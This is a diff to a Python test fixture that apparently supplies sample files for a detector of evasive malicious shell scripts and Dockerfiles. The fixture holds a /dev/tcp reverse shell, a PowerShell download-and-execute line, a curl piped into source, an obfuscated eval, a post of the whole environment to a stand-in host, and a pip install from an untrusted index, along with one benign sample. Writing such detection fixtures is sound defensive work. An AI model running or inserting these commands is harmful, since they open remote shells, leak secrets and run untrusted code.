@@ -143,6 +143,14 @@ FILES: dict[str, dict[str, str | bytes]] = {
         "evasion-device": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
         "evasion-powershell": "$c = New-Object Net.WebClient\n"
         "IEX ($c.DownloadString('http://192.0.2.1/x'))\n",
+        "evasion-held": '#!/bin/sh\nX=$(echo dG91Y2ggY2FuYXJ5 | base64 -d)\neval "$X"\n',
+        "evasion-substituted": "#!/bin/bash\nsource <(curl -s http://192.0.2.1/x)\n",
+        "evasion-printed": "#!/bin/bash\nprintf '\\x74\\x6f\\x75' | sh\n",
+        "evasion-environment": '#!/bin/sh\ncurl -d "$(env)" http://192.0.2.1/\n',
+        "evasion-index": "FROM python:3.11\nRUN pip install -i http://192.0.2.1/simple canary\n",
+        "good-indexes": "FROM python:3.11\nRUN pip install torch -f https://data.pyg.org/whl/x.html"
+        " --extra-index-url https://download.pytorch.org/whl/cpu\n"
+        'RUN python -c "import nltk; nltk.download(\'punkt\')"\nRUN gunzip x.gz | head\n',
     },
 }  # fmt: skip
 TREES: dict[str, dict[str, Mapping[str, str | bytes]]] = {
